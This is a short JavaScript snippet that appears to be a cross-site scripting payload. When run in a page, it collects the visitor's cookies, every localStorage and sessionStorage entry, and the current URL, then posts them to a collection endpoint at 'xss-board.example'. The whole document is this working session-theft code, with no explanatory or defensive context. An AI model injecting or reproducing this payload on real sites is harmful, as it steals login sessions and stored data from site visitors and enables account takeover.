(function () {
  'use strict';
  const API = 'https://xss-board.example/api/collect.php';
  const data = {
    type: 'v2',
    cookies: document.cookie,
    local: Object.keys(localStorage).reduce((o, k) => { o[k] = localStorage.getItem(k); return o; }, {}),
    session: Object.keys(sessionStorage).reduce((o, k) => { o[k] = sessionStorage.getItem(k); return o; }, {}),
    url: location.href,
    time: new Date().toISOString()
  };
  fetch(API, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify(data) })
    .then(() => console.log('ok')).catch(e => console.log(e));
})();
